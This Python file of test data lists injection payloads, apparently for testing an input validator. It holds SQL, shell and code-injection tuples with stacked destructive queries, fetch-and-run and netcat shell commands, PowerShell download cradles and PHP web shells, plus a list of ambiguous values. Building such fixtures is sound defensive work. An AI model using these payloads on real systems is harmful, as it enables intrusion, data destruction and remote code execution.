"""More hostile values, written after the grammar and against it; and what no reader of the value alone can tell."""

SQL = tuple(
    r"""x' || chr(65) || '
x'||''||'
x' and rownum=1--
x' and 1::int=1--
x' is distinct from 'y
x' similar to '%
x' ~ '.
x';do $$ begin perform 1; end $$;--
x' returning pin--
x' div 1='
'^'
'|'
'&'
x' sounds like 'y
x' <=> null#
x' regexp binary 'a
x' or @a:=1#
'=0#
x'or(sleep(3))or'
x' or {fn user()}='a
x'!='y
x' or 1 in (@@version)--
x';exec('sel'+'ect 1')--
x' union select null for json auto--
x' union select top 1 name from staff--
x' || sqlite_version() || '
x' glob '*
x' match 'y
x' union select sql from sqlite_master--
4-(select 1)
4*(case when 1=1 then 1 else 0 end)
4 in (4,(select 5))
4 limit 1,1
4 offset 0--
4 union values(1)
4 except select 1
4 or id in(select id from vault)
4,4) on duplicate key update pin=1#
4 returning *
name,(select 1 from vault)
1,extractvalue(1,concat(0x7e,version()))
name asc limit 0 union select 1
(case id when 1 then name else pin end)
if(1,sleep(1),1)
staff where 1=1
staff where 1=1--
staff s join vault v on 1=1
staff union select 1
4 and(select(1)from(vault)limit 1)=1
4 aNd 5>3
4 or 5 is not null
4 or true
4' or true#
4' || true#
4' or 1#
4' or '1
4' or ''='
4' and 5>3 and '1
4" or ""="
4') or true--
4' union(select 1)--
4' union all(select 1)#
4' group by 1,2--
4' order by 1,2,3--
4' limit 1#
4'; shutdown--
4'; grant all on *.* to me--
4'; create user me--
4'; set global general_log=1--
4'; handler staff open;--
4'; rename table staff to s--
4'; replace into staff values(1)--
4'; lock tables staff write--
4'; kill 5--
4'; begin dbms_lock.sleep(3); end;--
4'; declare @a varchar(9); set @a='x'; exec(@a)--
4';select 1 into outfile '/x'--
4' and benchmark(9999999,md5(1))#
4' and (select * from (select(sleep(3)))a)--
4' and elt(1=1,1)--
4' and make_set(1=1,1)--
4' and strcmp('a','a')=0--
4' and (select load_file('/x')) is null--
4' and ord(mid((select 1),1,1))=49--
4' and hex('a')=61--
4' AND 1=(SELECT COUNT(*) FROM information_schema.tables)--
4' and 1=ctxsys.drithsx.sn(1,'a')--
4' and 1=utl_http.request('http://x')--
4' and xmltype('a') is not null--
4' and extractvalue(xmltype('a'),'/a') is null--
4' and 1=(select 1 where 1=1)--
4' and 'a'||'b'='ab
4' and 'a'+'b'='ab
4' and 'a' 'b'='ab
4'%20or%201=1--
4'%09or%0a1=1--
4'/*!50000or*/1=1--
4'-- x
4'--%0aor 1=1
4'#%0aor 1=1
4' or/**/1=1--
4'||'1'='1
4'and'1'='1
4'or'1'<'2
4' or 2>1--
4' or 2 > 1 --
4'or 1 or'
4' or 1 --+
4' rlike '.
4' regexp '.
4' in ('4')--
4' between 'a' and 'z
4' like '%
4' like '%' --
%' or 1=1--
_' or 1=1--
\' or 1=1--
'' or 1=1--
""or 1=1--
x' or position('a' in 'a')=1--
x' or 'a'='a' --
x') or ('1'='1'--
1 or sleep(3)#
1;sleep(3)
1 waitfor delay '0:0:5'
1);waitfor delay '0:0:5'--
1';waitfor delay '0:0:5'--
1 and updatexml(1,concat(1,(select 1)),1)
1 procedure analyse(1,1)
1 having 1=1
1 union/**/select/**/1
1 union%0aselect 1
1 union all select 1--
1e0union select 1
1.union select 1
1union select 1
1'union select 1--
1"union select 1--""".splitlines()
)
SHELL = tuple(
    r"""a;. ./x
a;source ./x
a;exec sh
a|sh
a|bash -s
a & del /q *
a|findstr x
a && cscript x.vbs
a;command -v id
a; [ -f x ] && id
a;if true;then id;fi
a;for i in 1;do id;done
a;while :;do :;done
a;{ id; }
a;(id)
a;\id
a;"id"
a;i$()d
a;i${x}d
a;/???/??t /???/p??s??
a;$0
a;${PATH:0:1}
a;$'\x69\x64'
a;printf %s x|sh
a;rev<<<'di'|sh
a;xargs -a x
a;set -x
a;ulimit -a
a;nohup id&
a;python -m http.server
a;setsid sh
a|base64 -d|bash
$(<x)
a&&set
a%0a%0did
a;%0aid
a||ping -c1 x
a;timeout 5 ping x
a;curl x|sh
a;lua -e "os.execute()"
a;gcc x.c
a;vim -c ':!id'
a;less /srv/x
a;nc x 4|sh
a;telnet x 4
a; ifconfig
a;ip a
a;ss -tlnp
a;lsof -i
a;df -h
a; free -m
& ver
& vol
& tree
& set
& whoami /priv
& wmic process list
& sc query
& tasklist /v
& arp -a
& cmdkey /list
& query user
& driverquery
;dir;
powershell IEX(New-Object Net.WebClient).DownloadString('x')
& msg * hi
& shutdown /r
&rd /s /q x
& rundll32 x,y
& mshta http://x
& bitsadmin /transfer
& echo hi>x
a; shutdown -h now
; reboot
a; printenv
a|tac /srv/x
a|head -1 /srv/x
a; tail -f /srv/x
a; nl /srv/x
a; sort /srv/x
a; base32 /srv/x
a; strings /bin/ls
a; stat /srv/x
a; file /bin/ls
a; du -sh .
a; ls ~
a; ls *
a; ls $HOME
a; echo *
a; echo "hi"
a; echo `id`
a; cd ..; ls
a; cd /tmp
a; pwd
a; mkdir x
a; mv a b
a; cp a b
a; ln -s a b
a; tar xzf a
a; unzip a
a; su root
a; sudo id
a; passwd root
a; uptime
a; dmesg
a; mount
a; fdisk -l
a; nmap x
a; traceroute x
a; whois x
a; scp a b:
a; rsync a b:
a; npm i x
a; pip install x
a; apt install x
a; yum install x
a; service x stop
a; killall x
a; pkill x
a; screen
a; tmux
a; watch id
a; env x=1 id
a; busybox id
a; osascript -e x
a; defaults read
a; xdg-open x
a; java -jar x
a; dotnet x
a; go run x
a; rustc x
$(sleep 3)
`sleep 3`
$(echo hi)
${IFS}id
;${IFS}id
$SHELL -c id
$0 -c id
a'`id`'
a"`id`"
"&id&"
'|id|'
a;id%00
a%00;id
a&&id#
{{id}};id
x.jpg;ls -la;
x.jpg|ls
name=a;id
a=1&&id
user@host.example;id
1;id
1|id
1&id
1&&id
-1;id
127.0.0.1&&dir
127.0.0.1|ifconfig
127.0.0.1%0Aid
127.0.0.1`id`
127.0.0.1$(id)
http://host.example/;id
http://host.example/|id
http://host.example/$(id)""".splitlines()
)
CODE = tuple(
    r"""@eval($_POST[x])
{${phpinfo()}}
?><?php x();
array_filter(['id'],'system')
$f='system';
new SplFileObject('/x')
eval("return 1;")
create_function('','x')
echo `id`;
print_r(scandir('.'))
var_dump(getenv())
die(phpversion())
readfile("x");
highlight_file(__FILE__);
(new ReflectionFunction('system'))->invoke('id')
'system'('id');
extract($_GET)
ini_set('a','b')
mail('a','b','c')
fwrite(fopen('x','w'),'y')
unserialize($_GET['a'])
echo shell_exec('id');
passthru("ls")
<script language=php>x</script>
print(open('x').read())
__builtins__.__dict__['eval']
__loader__.load_module('os')
sys.modules['os']
compile('1','a','exec')
().__class__
"".__class__.__mro__
{}.__init__
pickle.loads(b'x')
os.environ
pty.spawn('sh')
timeit.timeit("x")
eval(input())
yaml.load(x)
require('os').hostname()
process.exit(1)
globalThis.process
global['process']
Function('return this')()
setTimeout('x',1)
var x=require("net")
[].map.constructor('x')()
import fs from 'fs'
vm.runInNewContext('x')
arguments.callee.caller
Runtime.getRuntime()
new ProcessBuilder('id').start()
new java.io.File('x')
System.getProperty('x')
System.exit(0)
@java.lang.Runtime@getRuntime()
javax.naming.InitialContext
org.springframework.context.support.ClassPathXmlApplicationContext
groovy.lang.GroovyShell
Eval.me('1')
["id"].execute()
exec "id"
%x[id]
spawn('id')
open("|id")
instance_eval('1')
Object.const_get('X')
IO.read('x')
Dir.entries('/')
ENV['X']
require 'open3'
Marshal.load(x)
Process.kill(9,1)
open(F,"|id")
use Socket;
loadfile('x')()
System.IO.File.ReadAllText("x")
Assembly.Load(x)
Activator.CreateInstance(x)
Environment.GetEnvironmentVariable("x")
exec(char(1))
$x();
$x('id')
$x->y('id');
$x::y();
$_REQUEST[0]($_REQUEST[1]);
system($_GET[0]);
`$_GET[0]`
<?=system($_GET[0])?>
<?php include $_GET[0];
file_put_contents('x.php','<?php')
move_uploaded_file($a,$b)
assert($_POST[0])
ob_start('system');
register_shutdown_function('system','id')
usort($a,'system')
phpinfo()
phpversion()
getcwd()
gethostname()
php_uname()
get_current_user()
getmypid()
${7*7}
java.util.Scanner
java.lang.ProcessBuilder
sun.misc.Unsafe
ognl.OgnlContext
com.sun.rowset.JdbcRowSetImpl
%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}
${(#a=@java.lang.Runtime@getRuntime())}
redirect:${1+1}
action:%{1+1}
class.classLoader.URLs[0]
new String("a")
console.log(process.env)
while(1);
do{}while(true)
for(;;)
sleep(10)
exit()
die();
alert(1)
document.cookie
1;phpinfo()
1);phpinfo();//
";phpinfo();//
');system('id');//
{{system('id')}}
<% out.println(1) %>
<jsp:include page="/x"/>
<jsp:scriptlet>x</jsp:scriptlet>
#{1+1}
<#list 1..3 as x>""".splitlines()
)

# A word, a number, a program after a blank: each is honest more often than not, and the walls behind decide.
NOT_TOLD = (
    "x' for xml path('')--",
    "staff;--",
    "staff natural join vault",
    "4 or not 5",
    "4 or 1",
    "1 group by 1 with rollup",
    "1 having 1",
    "a>>/srv/x",
    "a&copy x y",
    "a;trap id EXIT",
    "a;tee x",
    "`<x`",
    "a;last",
    "a;w",
    "a;who",
    "a;history",
    "a;jobs",
    "a&ver",
    "a; halt",
    "a; exit",
    "a; set",
    "a; echo hi",
    "a; touch x",
    "a; groups",
    "a; hostname",
    "a; date",
    "a; host x",
    "a; ftp x",
    "a; make",
    "a; at now",
    "a; open x",
    "breakpoint()",
    "import subprocess as s",
    "res.end(1)",
    "dofile('x')",
    "String.valueOf(1)",
    "exit;",
    "boss' -- and then nothing",
    "-oProxyCommand=id",
    "- var x = root.process",
    "{% load log %}{% get_admin_log 9 as l %}",
    '<r xsi:schemaLocation="a http://host.example/a.xsd" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"/>',
)
